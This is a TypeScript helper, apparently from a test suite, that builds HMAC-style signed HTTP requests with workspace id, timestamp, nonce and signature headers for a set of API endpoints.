async function signedRequest(
  s: Sender,
  ep: CorpusEndpoint,
  o: { secret?: string; body?: unknown },
): Promise<SignedRequest> {
  const pathAndQuery = ep.path(s.world) + (ep.query_ ? `?${ep.query_}` : "");
  const [path, query = ""] = pathAndQuery.split("?");
  const body = ep.method === "POST"
    ? JSON.stringify(o.body ?? ep.valid?.(s.world) ?? {})
    : undefined;
  const timestamp = String(Date.now());
  const nonce = crypto.randomUUID().replaceAll("-", "");
  const headers = new Headers({
    "x-workspace-id": s.world.a.ws.workspaceId,
    "x-timestamp": timestamp,
    "x-nonce": nonce,
    "x-signature-version": "2",
    "x-signature": await signParts(o.secret ?? s.world.a.ws.secret, {
      method: ep.method,
      path,
      query,
      timestamp,
      nonce,
      body: body ?? "",
    }, 2),
  });
  if (body !== undefined) headers.set("content-type", "application/json");
  const req: SignedRequest = {
    url: `${s.stack.functionsUrl}${pathAndQuery}`,
    headers,
    body,
    init: () => ({ method: ep.method, headers: req.headers, body: req.body }),
  };
  return req;
}
